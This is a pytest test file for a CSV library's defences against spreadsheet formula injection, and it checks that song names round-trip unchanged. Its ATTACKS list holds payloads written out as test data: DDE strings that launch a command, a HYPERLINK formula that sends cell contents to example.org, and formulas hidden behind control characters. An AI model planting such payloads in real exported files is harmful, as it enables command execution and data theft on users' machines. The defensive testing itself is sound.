"""No name in a table is a formula to a spreadsheet, and every name is read back as it was."""

import csv
import re
from itertools import product
from pathlib import Path

import pandas as pd
import pytest
from stemlens.formulas import as_text, as_written
from stemlens.rows import read_rows, write_rows
from stemlens.tables import read_table, write_table

ATTACKS = [
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "a;=1+1;b",
    "a\t=1+1",
    ";;=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    '",=1+1,"',
]
HARMLESS = ["+44", "-", "@home", "'n Sync", "a=b", "1-2", "a;b", "Don't", "2+2=5", "—", "'", ""]

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cells(path: Path, delimiter: str) -> list[str]:
    """Text of a table as a spreadsheet takes it apart that knows no quotes."""
    text = path.read_bytes().decode("utf-8")
    return [cell for row in re.split("[\r\n]", text) for cell in row.split(delimiter)]


@pytest.mark.parametrize("name", ATTACKS, ids=ascii)
def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, name: str) -> None:
    path = tmp_path / "table.csv"
    write_table(path, pd.DataFrame({"song": [name, "next"], "class": ["bass", name]}))
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert not [cell for row in rows for cell in row if cell.startswith(STARTS)]
    for delimiter in ";\t":
        assert not [cell for cell in cells(path, delimiter) if cell.startswith(STARTS)]


@pytest.mark.parametrize("name", [*ATTACKS, *HARMLESS], ids=ascii)
def test_names_are_read_back_as_they_were(tmp_path: Path, name: str) -> None:
    table = pd.DataFrame({"song": [name, "next"], "unknown": ["x", name or "y"]})
    write_table(tmp_path / "table.csv", table)
    read = read_table(tmp_path / "table.csv").fillna("")
    assert read["song"].tolist() == [name, "next"]
    assert read["unknown"].tolist() == ["x", name or "y"]
    rows = [{"song": name, "value": -1.5}, {"song": "next", "value": 2.0}]
    write_rows(tmp_path / "rows.csv", rows)
    assert [row["song"] for row in read_rows(tmp_path / "rows.csv")] == [name, "next"]
    write_table(tmp_path / "again.csv", pd.DataFrame(rows))
    assert (tmp_path / "again.csv").read_bytes() == (tmp_path / "rows.csv").read_bytes()


def test_numbers_and_other_text_are_written_as_ever(tmp_path: Path) -> None:
    table = pd.DataFrame({"song": ["Zoë", "'n Sync", "a-b"], "value": [-1.5, float("-inf"), 1]})
    write_table(tmp_path / "table.csv", table)
    assert (tmp_path / "table.csv").read_text("utf-8") == (
        "song,value\nZoë,-1.5\n'n Sync,-inf\na-b,1\n"
    )


def test_a_table_of_an_earlier_version_is_read_as_it_was(tmp_path: Path) -> None:
    (tmp_path / "table.csv").write_text("song,value\n+44,1\n'n Sync,2\n")
    assert read_table(tmp_path / "table.csv")["song"].tolist() == ["+44", "'n Sync"]


@pytest.mark.parametrize("length", range(7))
def test_any_text_is_marked_and_unmarked_to_itself(length: int) -> None:
    for signs in product("=';a\t\n", repeat=length):
        text = "".join(signs)
        marked = as_text(text)
        assert as_written(marked) == text
        parts = re.split("[;\t\r\n]", marked)
        assert not [part for part in parts if part.startswith(STARTS)]
